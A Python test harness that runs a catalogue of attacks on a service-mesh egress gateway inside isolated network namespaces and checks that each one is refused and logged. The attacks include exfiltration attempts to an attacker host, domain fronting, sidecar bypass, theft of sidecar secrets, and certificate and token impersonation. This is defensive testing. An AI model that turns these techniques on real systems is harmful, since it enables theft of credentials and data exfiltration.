#!/usr/bin/env python3
"""The attacks on egress control that the article lists, and some more, tried one by one.

A small data centre in network namespaces (root is needed): applications A and B with sidecars, an
egress gateway, a router with the shipped firewall, and the internet outside it. A may reach
*.ibm.com, B mongo1.composedb.com, nobody anything else. The attacker owns application A's machine:
root in its namespace, and the keys of its sidecar. For each attack: what happened, and where it is
recorded.
"""

import argparse
import json
import os
import pathlib
import subprocess
import sys
import time

HERE = pathlib.Path(__file__).resolve().parent
ROOT = HERE.parent.parent
sys.path[:0] = [str(HERE), str(HERE.parent), str(ROOT / "tests/e2e")]

import forge  # noqa: E402
from onebox.scene import SceneError, python  # noqa: E402
from topology import Place, Topology  # noqa: E402

VENV = ROOT / "target/attacks/bin/python"
MESH_PORT = 15012
PROXY_GROUP = 1337
GATEWAY, NOTEBOOK = "istio-system/egressgateway", "team-a/notebook"
RECORDED_WITHIN = 5  # seconds; logs are written ten times a second
A, B = ("cluster.local", "team-a", "application-a"), ("cluster.local", "team-b", "application-b")
PLACES = [
    Place("control", 1),
    Place("gateway", 2, workload=GATEWAY, run="gateway", labels={"istio": "egressgateway"}, account="egressgateway"),
    Place("a", 10, workload="team-a/a", run="sidecar", account="application-a", captured=True),
    Place("b", 11, workload="team-b/b", run="sidecar", account="application-b", captured=True),
    Place("ibm", 20, ip="129.42.38.10", is_outside=True),
    Place("mongo", 21, ip="203.0.113.5", is_outside=True),
    Place("evil", 22, ip="45.33.32.156", is_outside=True),
    Place("dns", 23, ip="192.5.5.241", is_outside=True),
]
# What the applications run: a line over TLS or TCP, and the answer.
CLIENT = """
import socket, ssl, sys
host, port, sni, roots = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
try:
    with socket.create_connection((host, port), 10) as stream:
        if sni:
            stream = ssl.create_default_context(cafile=roots).wrap_socket(stream, server_hostname=sni)
        stream.sendall(b"hello\\n")
        answer = stream.recv(200)
        print("answered:", answer.decode().strip() if answer else "nothing, and closed")
except OSError as error:
    print("refused:", type(error).__name__, error)
"""
# Application A once more, in a jail on the control plane's machine.
JAILED = """apiVersion: networking.istio.io/v1
kind: WorkloadEntry
metadata:
  name: notebook
  namespace: team-a
  annotations:
    sluis.dev/run: sidecar
spec:
  address: 127.0.0.73
  serviceAccount: application-a
  labels:
    app: notebook
"""
# A second identity of each team, whose proxy never starts: its secrets are what a thief takes.
LOOT = """apiVersion: networking.istio.io/v1
kind: WorkloadEntry
metadata:
  name: loot
  namespace: {namespace}
  annotations:
    sluis.dev/run: sidecar
    sluis.dev/proxy: envoy # so that an agent serves the secrets on a socket
spec:
  address: {address}
  serviceAccount: {account}
  labels:
    app: loot
"""


class Attack:
    """What was tried, what came of it, where that is recorded."""

    def __init__(self, tried, is_good, seen, recorded=None):
        """`recorded` is None where the attempt itself is the proof; empty where no record was found."""
        self.tried, self.seen, self.recorded = tried, seen, recorded
        self.is_good = bool(is_good) and recorded != ""


class Battlefield(Topology):
    def __init__(self, options):
        super().__init__(options.bin_dir, places=PLACES, manifests=manifests, keep=options.keep)
        self.engines[NOTEBOOK] = "sluis"
        self.read = {}  # lines of each proxy's log that stand for an attack already

    def set_outside(self):
        """The internet: a site, a database, the attacker's machine, a name server."""
        forge.authority(self.dir, "internet")
        (self.dir / "internet.pem").chmod(0o644)
        self.dir.chmod(0o755)
        chain, key = forge.site(self.dir, "site", "www.ibm.com", "internet")
        self["ibm"].start("ibm", sys.executable, HERE / "site.py", "www.ibm.com", chain, key, 443)
        self["mongo"].witness(27017)
        self["evil"].witness(443, 53, 4444, 27017)
        self["dns"].start("dns", sys.executable, HERE / "names.py", f"www.ibm.com={self['ibm'].ip}",
                          f"evil.example={self['evil'].ip}", f"mongo1.composedb.com={self['mongo'].ip}")
        for name in ("ibm", "dns"):
            log = self.dir / f"{name}.log"
            self.wait(f"{name} to listen", lambda log=log: "ready" in log.read_text())
        # In a mount namespace of our own: see main.
        resolv = self.dir / "resolv.conf"
        resolv.write_text(f"nameserver {self['dns'].ip}\n")
        subprocess.run(["mount", "--bind", resolv, "/etc/resolv.conf"], check=True)

    def in_sync(self):
        """All proxies but those that never start."""
        status = self.status() or {"proxies": []}
        if faults := self.errors(status):
            raise SceneError("faults:\n" + "\n".join(faults))
        real = [proxy for proxy in status["proxies"] if proxy["name"] != "loot"]
        told = {f"{proxy['namespace']}/{proxy['name']}" for proxy in real}
        return told >= set(self.engines) and all(
            proxy["is_connected"] and proxy["sync"].get("LDS", {}).get("state") == "SYNCED" for proxy in real)

    # -- what applications and attackers do

    def ask(self, place, host, port, sni=""):
        return self[place].python(CLIENT, host, str(port), sni, str(self.dir / "internet.pem"))

    def attacker(self, *command):
        """Runs a command in A's namespace as root, in the group that the packet filter lets pass."""
        line = ["nsenter", f"--net={self['a'].path}", "setpriv", f"--regid={PROXY_GROUP}", "--clear-groups", "--"]
        done = subprocess.run([*line, *map(str, command)], capture_output=True, text=True, timeout=120,
                              env=self.environment(), cwd=self.dir, check=False)
        return (done.stdout or done.stderr).strip()

    def thief(self, *arguments):
        answer = self.attacker(VENV, HERE / "thief.py", *arguments)
        try:
            return json.loads(answer)
        except ValueError:
            raise SceneError(f"thief.py: {answer}") from None

    def impostor(self, sni, chain=None, key=None, **more):
        options = [f"--{name}={value}" for name, value in more.items()]
        pair = ["--chain", chain, "--key", key] if chain else []
        return self.attacker(VENV, HERE / "impostor.py", self["gateway"].ip, 8443, "--sni", sni, *pair, *options)

    # -- where it is recorded

    def line(self, workload, *wanted):
        """A line of a proxy's log with all these words, written since the last one found there; waits."""
        deadline = time.monotonic() + RECORDED_WITHIN
        while True:
            lines = self.log(workload).splitlines()
            for number in range(self.read.get(workload, 0), len(lines)):
                if all(word in lines[number] for word in wanted):
                    self.read[workload] = number + 1
                    return lines[number]
            if time.monotonic() > deadline:
                return ""
            time.sleep(0.05)

    def told(self, *wanted):
        """The last line of the control plane's log with all these words."""
        lines = [line for line in (self.dir / "up.log").read_text().splitlines() if all(word in line for word in wanted)]
        return lines[-1] if lines else ""

    def outside_saw(self):
        """What the attacker's machine and the database saw, from anywhere."""
        return self["evil"].seen() + self["mongo"].seen()


def manifests(net):
    texts = {"egress.yaml": (HERE / "istio/egress.yaml").read_text(), "jailed.yaml": JAILED}
    texts["workloads.yaml"] = "---\n".join(net.entry(place) for place in net.places if place.workload)
    for (_, namespace, account), address in ((A, "127.0.0.71"), (B, "127.0.0.72")):
        texts[f"loot-{namespace}.yaml"] = LOOT.format(namespace=namespace, account=account, address=address)
    return texts


# -- the attacks, in the article's order

def allowed(net):
    """What must work, or the rest proves nothing."""
    answer = net.ask("a", "www.ibm.com", 443, "www.ibm.com")
    yield Attack("A asks www.ibm.com", answer == "answered: www.ibm.com: hello", answer,
                 net.line(GATEWAY, "from=spiffe://cluster.local/ns/team-a/sa/application-a", "sni=www.ibm.com"))
    answer = net.ask("b", "mongo1.composedb.com", 27017)
    yield Attack("B asks mongo1.composedb.com", answer == "answered: witness: hello", answer,
                 net.line(GATEWAY, "from=spiffe://cluster.local/ns/team-b/sa/application-b", "sni=mongo1"))
    came = net["mongo"].seen()
    yield Attack("the database saw the gateway's address only", came and all(
        net["gateway"].ip in line for line in came if " from " in line), "; ".join(came))


def straight(net):
    before = len(net.outside_saw())
    answer = net.ask("a", "evil.example", 443, "evil.example")
    yield Attack("A asks evil.example by name", answer.startswith("refused"), answer,
                 net.line("team-a/a", "evil.example"))
    answer = net.ask("a", net["evil"].ip, 443, "evil.example")
    yield Attack("A asks its address", answer.startswith("refused"), answer,
                 net.line("team-a/a", "sni=evil.example", "BlackHoleCluster"))
    answer = net.ask("a", "mongo1.composedb.com", 27017)
    yield Attack("A asks B's database", "hello" not in answer, answer, net.line("team-a/a", "rbac_access_denied"))
    answer = net.ask("b", "www.ibm.com", 443, "www.ibm.com")
    yield Attack("B asks www.ibm.com", answer.startswith("refused"), answer, net.line("team-b/b", "rbac_access_denied"))
    answer = net.ask("a", net["evil"].ip, 443, "www.ibm.com")
    yield Attack("A says www.ibm.com to evil's address (domain fronting)", answer.startswith("refused"), answer,
                 net.line("team-a/a", "sni=www.ibm.com", "BlackHoleCluster"))
    yield Attack("nothing of that came outside", len(net.outside_saw()) == before, f"{len(net.outside_saw()) - before} connections")


def bypass(net):
    """Root in A's namespace, in the sidecar's own group: no packet filter there holds it."""
    before = len(net.outside_saw())
    counted = net.rejected()
    evil = net["evil"]
    found = json.loads(net.attacker(sys.executable, HERE / "ways.py", evil.ip, evil.ip6))
    after = net.rejected()
    for way, what in found.items():
        yield Attack(f"past the sidecar: {way}", what.startswith("closed"), what)
    yield Attack("nothing of that came outside", len(net.outside_saw()) == before,
                 f"{len(net.outside_saw()) - before} packets or connections",
                 after > counted and f"the router's firewall counted {after - counted} packets that it rejected" or "")
    names = (net.dir / "dns.log").read_text()
    yield Attack("no name of the tunnel left", "evil" not in names.replace("evil.example", ""), "none asked outside")


def jailed(net):
    """The same from inside the jail of `sluis exec`, where there is no way to a packet filter either."""
    before = len(net.outside_saw())
    evil, command = net["evil"], [net.sluis, "exec", NOTEBOOK, "--"]
    done = subprocess.run(
        net["control"].enter(*command, python(), "-c", (HERE / "ways.py").read_text(), evil.ip, evil.ip6, root=True),
        capture_output=True, text=True, timeout=120, env=net.jail_environment(), check=False)
    if done.returncode:
        raise SceneError(f"sluis exec {NOTEBOOK}: {done.stderr}")
    for way, what in json.loads(done.stdout).items():
        yield Attack(f"out of the jail: {way}", what.startswith("closed"), what)
    yield Attack("nothing of that came outside", len(net.outside_saw()) == before,
                 f"{len(net.outside_saw()) - before} packets or connections",
                 net.line(NOTEBOOK, "BlackHoleCluster", f"local={evil.ip}:4444"))


def impersonation(net):
    loot = {}
    for team in ("team-a", "team-b"):
        loot[team] = net.dir / f"loot-{team}"
        loot[team].mkdir()
        net.thief("steal", net.state / f"workloads/{team}/loot/sds.sock", loot[team])
    own, others = loot["team-a"], loot["team-b"]
    mongo, ibm = "mongo1.composedb.com", "www.ibm.com"

    def tries(what, sni, chain, key, *wanted):
        answer = net.impostor(sni, chain, key)
        return Attack(what, "witness" not in answer and "answered" not in answer, answer, net.line(GATEWAY, *wanted))

    yield tries("A's own certificate, for B's database", mongo, own / "chain.pem", own / "key.pem",
                "from=spiffe://cluster.local/ns/team-a", "sni=mongo1", "rbac_access_denied")
    yield tries("B's certificate without its key", mongo, others / "chain.pem", own / "key.pem",
                "sni=mongo1", "invalid_peer_certificate")
    forge.authority(net.dir)
    # The mesh's own issuer, which no attacker has: what it signed in earlier days, or for others.
    issuer = net.state / "ca/generation-1"
    for file, name in (("ca-cert.pem", "mesh.pem"), ("ca-key.pem", "mesh.key")):
        (net.dir / name).write_bytes((issuer / file).read_bytes())
    for what, name, signer, days, identity in (
            ("a self-signed lookalike of B", "selfsigned", None, 1, B),
            ("a lookalike of B from a root of the same name", "lookalike", "forged-root", 1, B),
            ("B's certificate of another day, expired", "expired", "mesh", -1, B),
            ("the same identity in another trust domain", "foreign", "mesh", 1, ("evil.local", *B[1:]))):
        chain, key = forge.leaf(net.dir, name, identity, signer, days)
        if signer == "mesh":
            chain.write_text(chain.read_text() + (issuer / "cert-chain.pem").read_text())
        yield tries(what, mongo, chain, key, "sni=mongo1", "invalid_peer_certificate")
    answer = net.impostor(mongo)
    yield Attack("no certificate at all", "answered" not in answer, answer,
                 net.line(GATEWAY, "sni=mongo1", "peer_sent_no_certificates"))
    csr = forge.request(net.dir, "as-b", B)
    control = ["--control", f"{net['control'].ip}:{MESH_PORT}", "--roots", own / "roots.pem"]
    pair = ["--chain", own / "chain.pem", "--key", own / "key.pem"]
    given = net.thief("certify", *control, *pair, "--csr", csr, "--out", net.dir / "as-b.pem")
    named = subprocess.run(["openssl", "x509", "-in", net.dir / "as-b.pem", "-noout", "-ext", "subjectAltName"],
                           capture_output=True, text=True, check=False).stdout
    yield Attack("a request for B's certificate, with A's", "application-b" not in named,
                 f"{given}: {' '.join(named.split()[-1:])}", net.told("certificate refused", "application-a"))
    token = net.state / "workloads/team-b/b/join-token"
    given = net.thief("certify", *control, "--csr", csr, "--token", token)
    yield Attack("B's join token, used a second time", "refused" in given, given.get("refused", str(given)),
                 net.told("certificate refused"))
    answer = net.impostor(ibm, own / "chain.pem", own / "key.pem", inner="evil.example")
    yield Attack("outside www.ibm.com, inside evil.example (fake outer SNI)", "answered" not in answer, answer,
                 net.line(GATEWAY, "dynamic_forward_host_differs_from_sni"))
    answer = net.impostor(ibm, own / "chain.pem", own / "key.pem", send="no TLS at all")
    yield Attack("outside www.ibm.com, inside no TLS", "answered" not in answer, answer, net.line(GATEWAY, "sni=www.ibm.com", "UH"))
    yield from greed(net, [*control, *pair])


def greed(net, control):
    """A compromised proxy asks the control plane for what others have."""
    nodes = {
        "the gateway": (f"router~{net['gateway'].ip}~egressgateway.istio-system~istio-system.svc.cluster.local",
                        "istio-system", "egressgateway"),
        "B": (f"sidecar~{net['b'].ip}~b.team-b~team-b.svc.cluster.local", "team-b", "b"),
    }
    for who, (node, namespace, name) in nodes.items():
        for kind, names in (("secret", ["default", "kubernetes://istio-system/any"]), ("listener", [])):
            given = net.thief("ask", *control, "--node", node, "--metadata", f"NAMESPACE={namespace}",
                              f"WORKLOAD_NAME={name}", "--type", kind, *(["--", *names] if names else []))
            yield Attack(f"A's proxy says that it is {who}, wants each {kind}", "refused" in given,
                         given.get("refused", str(given)), net.told("proxy refused", node))


def rows(net):
    for part in (allowed, straight, bypass, jailed, impersonation):
        for attack in part(net):
            show(attack)
            yield attack


def show(attack):
    print(f"{'ok ' if attack.is_good else 'BAD'}  {attack.tried}")
    print(f"       what happened: {' '.join(attack.seen.split())[:200]}")
    if attack.recorded is not None:
        print(f"       recorded:      {' '.join(attack.recorded.split())[:260] or 'NOWHERE'}")
    sys.stdout.flush()


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--bin-dir", type=pathlib.Path, default=ROOT / "target/release")
    parser.add_argument("--keep", action="store_true", help="do not delete the directory")
    options = parser.parse_args()
    if not VENV.exists():
        sys.exit(f"{VENV} is not there: run scripts/setup.sh attacks")
    if "SLUIS_DEMO_UNSHARED" not in os.environ:
        # The namespaces' name server is to be ours alone.
        os.environ["SLUIS_DEMO_UNSHARED"] = "1"
        os.execvp("unshare", ["unshare", "-m", "--propagation", "private", sys.executable, *sys.argv])
    try:
        with Battlefield(options) as net:
            print()
            done = list(rows(net))
    except SceneError as error:
        sys.exit(f"demo: {error}")
    bad = [attack for attack in done if not attack.is_good]
    print(f"\n{len(done)} tried, {len(bad)} not as they must be")
    sys.exit(1 if bad else 0)


if __name__ == "__main__":
    main()
